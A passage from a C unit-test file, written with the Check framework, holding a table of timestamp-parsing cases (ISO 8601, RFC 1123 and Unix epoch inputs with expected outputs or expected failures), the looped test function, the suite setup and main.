	{"2026-11-28T04:17:05.000Z", "2026-11-28T04:17:05Z"},
	{"2026-11-28T04:17:05.1234567Z", "2026-11-28T04:17:05.123456Z"},
	{"2026-11-28T04:17:05.500+02:00", "2026-11-28T02:17:05.5Z"},
	{"2026-11-28T04:17:05-0130", "2026-11-28T05:47:05Z"},
	{"2026-11-28 04:17:05", "2026-11-28T04:17:05Z"},
	{"2026-11-28", "2026-11-28T00:00:00Z"},
	{"20261128T041705Z", "2026-11-28T04:17:05Z"},
	{"Sat, 28 Nov 2026 04:17:05 GMT", "2026-11-28T04:17:05Z"},
	{"28 Nov 2026 04:17:05 +0100", "2026-11-28T03:17:05Z"},
	{"1700000000", "2023-11-14T22:13:20Z"},
	{" 1700000000.125 ", "2023-11-14T22:13:20.125Z"},
	{"0", "1970-01-01T00:00:00Z"},
	{"-1.5", "1969-12-31T23:59:58.5Z"},
	{"2024-02-29T23:59:59Z", "2024-02-29T23:59:59Z"},
	{"2023-02-29T00:00:00Z", NULL},
	{"2026-13-01T00:00:00Z", NULL},
	{"2026-11-28T24:00:00Z", NULL},
	{"yesterday", NULL},
	{"inf", NULL},
	{"", NULL},
	{"99999999999999", NULL},
};

START_TEST(test_timestamps)
{
	const struct tscase *c = &ts_cases[_i];
	char out[AWS_TS_MAX];
	int rc = aws_ts_from_text(c->in, out);

	if (c->out) {
		ck_assert_msg(rc == 0, "\"%s\" unreadable", c->in);
		ck_assert_str_eq(out, c->out);
	} else {
		ck_assert_msg(rc == -1, "\"%s\" read as %s", c->in, out);
	}
}
END_TEST

#define N(a) ((int)(sizeof(a) / sizeof((a)[0])))

static Suite *parse_suite(void)
{
	Suite *s = suite_create("parse");
	TCase *tc = tcase_create("core");

	tcase_set_timeout(tc, 30);
	tcase_add_loop_test(tc, test_outputs, 0, N(output_cases));
	tcase_add_loop_test(tc, test_errors, 0, N(error_cases));
	tcase_add_loop_test(tc, test_refused, 0, N(refused_cases));
	tcase_add_loop_test(tc, test_timestamps, 0, N(ts_cases));
	tcase_add_test(tc, test_huge);
	tcase_add_test(tc, test_laughs_fast);
	tcase_add_test(tc, test_where_and_args);
	tcase_add_test(tc, test_secrets_not_quoted);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(parse_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
